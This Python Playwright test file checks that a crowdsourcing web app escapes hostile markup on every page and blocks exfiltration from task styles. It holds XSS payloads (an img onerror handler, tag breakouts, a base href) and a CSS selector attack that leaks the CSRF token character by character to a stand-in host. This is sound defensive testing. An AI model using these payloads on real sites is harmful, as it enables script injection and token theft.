"""Names, values and answers that hold markup: on our own pages they are text, wherever they turn up."""

import pytest
from playwright.sync_api import Page, Request

from kempelen.domain.actions import assignments, claims, messages, notices, people
from kempelen.domain.models import User
from tests.contract.containment.attacks import log_in, open_task, published, task_frame
from tests.factories import a_project, an_upload, group_of, hits_of
from tests.servers import Server

pytestmark = [pytest.mark.browser, pytest.mark.once]

EVIL = "\"'></textarea></script></title></style><x-evil></x-evil><img src=x onerror=evil=1>{{ 7 }}${a}<!--"
STYLE = "<style>x-evil,body{background:url(//elsewhere.example/seen)}</style><base href=//elsewhere.example/>"
TITLE = f"{EVIL}{STYLE}"[:120]
HTML = f"<p>{STYLE}</p></body><x-evil></x-evil><input name='x-evil' value='${{text}}'>"


@pytest.fixture
def evil_pages(page: Page, site: Server, victim: User) -> list[str]:
    """The addresses of pages that show hostile names of every kind; the victim is logged in."""
    people.change_details(victim, name=EVIL[:100], email="")
    requester = people.create_requester(EVIL[:100], victim)
    project = a_project(
        requester,
        html=HTML,
        name=TITLE,
        title=TITLE,
        description=TITLE,
        keywords=TITLE,
        places=2,
        audience="anonymous",
    )
    batch = an_upload(project, rows=[{"text": EVIL, f"<b>{EVIL}": EVIL}])
    upload = an_upload(project, rows=[{"text": EVIL, f"<b>{EVIL}": EVIL}])
    for each in (batch, upload):
        each.name, each.file_name = f"{EVIL}.csv", f"{EVIL}{STYLE}.csv"
        each.save(update_fields=["name", "file_name"])
    batch = published(batch)
    worker, hit = log_in(page, site, victim), hits_of(batch)[0]
    done = assignments.submit(claims.accept(worker, hit).public_id, {EVIL: EVIL, "text": [EVIL, STYLE]})
    assignments.reject(requester, done.assignment.public_id, feedback=EVIL, by=victim)
    for kind in ("broken", "question"):
        told = messages.tell(worker, hit, kind=kind, text=EVIL + STYLE)
        messages.reply(requester, told.public_id, text=EVIL + STYLE, by=victim)
    notices.tell_worker(requester, worker, EVIL, EVIL + STYLE, by=victim)
    base, group = f"/r/{requester.slug}", group_of(batch).public_id
    return [
        "/", f"/groups/{group}/", f"/groups/{group}/preview/", "/queue/", "/history/", "/account/",
        f"/history/{done.assignment.public_id}/", "/r/", f"{base}/projects/", f"{base}/batches/",
        f"{base}/projects/{project.number}/", f"{base}/projects/{project.number}/edit/",
        f"{base}/projects/{project.number}/publish/", f"{base}/projects/{project.number}/versions/1/",
        f"{base}/batches/{batch.number}/", f"{base}/batches/{batch.number}/results/",
        f"{base}/batches/{upload.number}/", f"{base}/batches/{batch.number}/messages/", "/messages/",
        f"/hits/{hit.public_id}/tell/",
    ]  # fmt: skip


def test_hostile_names_values_and_answers_are_text_on_every_page(
    page: Page, site: Server, evil_pages: list[str]
) -> None:
    asked: list[str] = []

    def look(request: Request) -> None:
        # In its own frame a template asks for what it likes.
        if "elsewhere" in request.url and request.frame == page.main_frame:
            asked.append(request.url)

    page.on("request", look)
    shown = 0
    for path in evil_pages:
        answer = page.goto(f"{site.url}{path}", wait_until="load")
        assert answer and answer.status == 200, path
        shown += "x-evil" in answer.text()
        assert not page.locator("x-evil, img[onerror], base, body style").count(), path
        assert page.locator("footer, .workbar").count(), f"{path} ends too early"
        assert page.evaluate("typeof evil") == "undefined", path

    assert shown >= 15
    assert not asked


def test_the_look_would_find_what_is_not_escaped(page: Page, site: Server, victim: User) -> None:
    def unescaped(route: object) -> None:
        response = route.fetch()  # type: ignore[attr-defined]
        body = response.text().replace("&lt;x-evil&gt;", "<x-evil>")
        route.fulfill(response=response, body=body)  # type: ignore[attr-defined]

    people.create_requester("<x-evil>", victim)
    log_in(page, site, victim)
    page.route(f"{site.url}/r/**", unescaped)
    page.goto(f"{site.url}/r/")

    assert page.locator("x-evil").count()


def test_styles_of_a_task_do_not_see_our_page(page: Page, site: Server, victim: User) -> None:
    signs = "0123456789abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"
    spying = "".join(
        f"meta[name=csrf-token][content^='{sign}'], input[name=csrfmiddlewaretoken][value^='{sign}']"
        f"{{display:block;background:url(//elsewhere.example/{sign})}}"
        for sign in signs
    )
    seen: list[str] = []
    page.on("request", lambda request: seen.append(request.url) if "elsewhere" in request.url else None)
    open_task(page, site, f"<style>{spying}</style><input name=a>", victim)
    task_frame(page).locator("[name=a]").wait_for()
    page.wait_for_timeout(300)
    assert not seen

    # And were such a style in our own page, its policy would let nothing out.
    page.evaluate(
        "css => { const s = document.createElement('style'); s.textContent = css; document.head.append(s);"
        "const sheet = new CSSStyleSheet(); sheet.replaceSync(css); document.adoptedStyleSheets = [sheet] }",
        spying,
    )
    page.wait_for_timeout(300)
    assert not [url for url in seen if "elsewhere" in url and _was_answered(page, url)]


def _was_answered(page: Page, url: str) -> bool:
    return bool(page.evaluate("url => performance.getEntriesByName(url).some((e) => e.responseStatus)", url))
